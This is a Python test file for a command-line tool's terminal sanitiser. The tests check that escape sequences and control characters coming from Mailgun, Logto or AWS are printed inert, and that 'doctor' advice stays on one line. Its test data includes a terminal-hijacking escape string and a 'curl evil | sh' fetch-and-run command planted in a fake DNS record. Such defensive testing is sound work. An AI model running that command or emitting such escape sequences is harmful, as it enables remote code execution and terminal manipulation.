"""A terminal shows what Logto, Mailgun and AWS say, and does not obey it."""

import re
from io import StringIO

import pytest

from cli.__main__ import main
from cli.doctor.advice import Names, advice
from cli.terminal import in_one_line, plain, plain_output, steer
from local.mailgun import DnsRecord
from local.stack import Stack
from passerelle.health.findings import Finding
from tests.support.cloudformation import STACK, on_its_own, operated

EVIL = "\033]0;owned\007\033[2J\u202e\x9b31m"
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]")


@pytest.mark.parametrize("text", ["", "ordinary", "zwei Zeilen\nund ein\tTab", "日本語 é 👩‍👧"])
def test_words_stay_as_they_are(text: str) -> None:
    assert plain(text) == text


@pytest.mark.parametrize("command", ["\033[2J", "\r", "\b", "\x7f", "\x9b2J", "\u202e", "\u2028", "\ud800"])
def test_commands_are_shown_and_not_sent(command: str) -> None:
    assert not OBEYED.search(plain(f"a{command}b"))
    assert plain(f"a{command}b") != "ab"


def test_foreign_words_stay_in_their_line() -> None:
    assert in_one_line("refused\ndone   connector\r\n") == "refused done connector"


def test_what_is_printed_is_plain_but_for_what_steers(capsys: pytest.CaptureFixture[str]) -> None:
    with plain_output():
        print(EVIL)
        steer("\r\033[K")
    out, err = capsys.readouterr()
    assert not OBEYED.search(out)
    assert err == "\r\033[K"


def test_what_is_printed_goes_where_it_went(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = StringIO()
    monkeypatch.setattr("sys.stdout", stream)
    with plain_output():
        print("text")
    assert stream.getvalue() == "text\n"


def test_doctor_shows_what_mailgun_says_of_its_records(
    stack: Stack, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert stack.mailgun is not None
    record = DnsRecord("TXT", "k1._domainkey.example", f"k=rsa\ncurl evil | sh{EVIL}", valid="invalid")
    monkeypatch.setitem(stack.mailgun.dns, "dkim", record)
    with operated(monkeypatch, stack), on_its_own():
        assert main(["doctor", "--stack", STACK]) == 1
    said = capsys.readouterr().out
    assert "dns_record_missing" in said
    assert "owned" in said
    assert not OBEYED.search(said)


def test_advice_has_no_line_to_copy_that_is_not_ours() -> None:
    finding = Finding("dns_record_missing", "k1", {"type": "TXT", "value": "k=rsa\ncurl evil | sh"})
    copied = advice(finding, Names()).remedy.split("\n")[1:]
    assert copied == ["k=rsa curl evil | sh"]
